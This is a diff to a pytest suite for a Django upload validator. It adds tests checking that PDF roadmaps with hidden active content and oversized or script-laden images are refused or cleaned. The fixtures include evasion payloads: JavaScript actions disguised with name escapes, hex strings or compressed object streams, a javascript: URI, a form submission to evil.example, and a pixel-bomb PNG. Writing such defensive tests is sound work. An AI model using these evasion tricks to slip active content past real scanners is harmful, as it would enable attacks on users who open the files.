@@ -2,6 +2,7 @@
 
 import io
 import re
+import zlib
 
 import pytest
 from django.core.exceptions import ValidationError
@@ -15,7 +16,7 @@ pytestmark = pytest.mark.unit
 
 def image_bytes(kind="PNG", size=(40, 20), mode="RGB") -> bytes:
     output = io.BytesIO()
-    colour = 90 if mode in ("L", "P") else (10, 120, 60)
+    colour = 90 if mode in ("L", "P", "1") else (10, 120, 60)
     Image.new(mode, size, colour).save(output, format=kind)
     return output.getvalue()
 
@@ -132,3 +133,65 @@ def test_renamed_or_active_pdfs_are_refused(data, code):
 def test_oversized_pdf_is_refused():
     data = PDF + b"\0" * uploads.ROADMAP_MAX_BYTES
     assert error_code(uploads.roadmap_validate, upload("roadmap.pdf", data)) == "too_large"
+
+
+def _flate_stream(content: bytes) -> bytes:
+    packed = zlib.compress(content)
+    return (
+        b"2 0 obj\n<< /Type /ObjStm /N 1 /First 0 /Filter /FlateDecode /Length "
+        + str(len(packed)).encode()
+        + b" >>\nstream\n"
+        + packed
+        + b"\nendstream\nendobj\n"
+    )
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        # Names written with #xx escapes are the same names to a PDF reader.
+        PDF.replace(b"<< /Type /Catalog >>", b"<< /OpenAction << /S /#4aava#53cript >> >>"),
+        PDF.replace(b"<< /Type /Catalog >>", b"<< /AA << /O << /#4a#53 (app.alert(1)) >> >> >>"),
+        # Hidden in a compressed object stream.
+        PDF.replace(
+            b"trailer", _flate_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>") + b"trailer"
+        ),
+        PDF.replace(b"<< /Type /Catalog >>", b"<< /S /URI /URI (javascript:alert(1)) >>"),
+        PDF.replace(b"<< /Type /Catalog >>", b"<< /S /SubmitForm /F (https://evil.example) >>"),
+        PDF.replace(b"<< /Type /Catalog >>", b"<< /AcroForm << /XFA 5 0 R >> >>"),
+        PDF.replace(b"<< /Type /Catalog >>", b"<< /JS<6170702e616c657274283129> >>"),
+    ],
+)
+def test_active_content_hidden_from_a_plain_scan_is_refused(data):
+    assert error_code(uploads.roadmap_validate, upload("roadmap.pdf", data)) == "active_pdf"
+
+
+def test_a_compressed_pdf_without_active_content_is_accepted():
+    data = PDF.replace(b"trailer", _flate_stream(b"<< /Type /Page /Contents 3 0 R >>") + b"trailer")
+    uploads.roadmap_validate(upload("roadmap.pdf", data, "application/pdf"))
+
+
+def test_a_pdf_header_followed_by_html_is_refused():
+    data = b"%PDF-1.4\n<html><script>alert(1)</script></html>\n"
+    assert error_code(uploads.roadmap_validate, upload("roadmap.pdf", data)) == "not_a_pdf"
+
+
+def test_an_image_of_hundreds_of_megapixels_is_refused_for_its_size():
+    # A few kilobytes on disk, 400 million pixels once decoded: Pillow refuses to open it.
+    data = image_bytes("PNG", size=(20_000, 20_000), mode="1")
+    assert len(data) < uploads.LOGO_MAX_BYTES
+    assert error_code(uploads.logo_validate, upload("logo.png", data)) == "too_many_pixels"
+
+
+def test_normalise_drops_a_jpeg_comment_and_metadata():
+    output = io.BytesIO()
+    exif = Image.Exif()
+    exif[0x010E] = "<script>alert(1)</script>"
+    Image.new("RGB", (40, 20), (10, 120, 60)).save(
+        output, format="JPEG", comment=b"<script>alert(2)</script>", exif=exif
+    )
+    data = uploads.logo_normalise(upload("logo.jpg", output.getvalue())).read()
+    assert b"script" not in data
+    with Image.open(io.BytesIO(data)) as image:
+        assert (image.format, image.size) == ("JPEG", (40, 20))
+        assert "comment" not in image.info
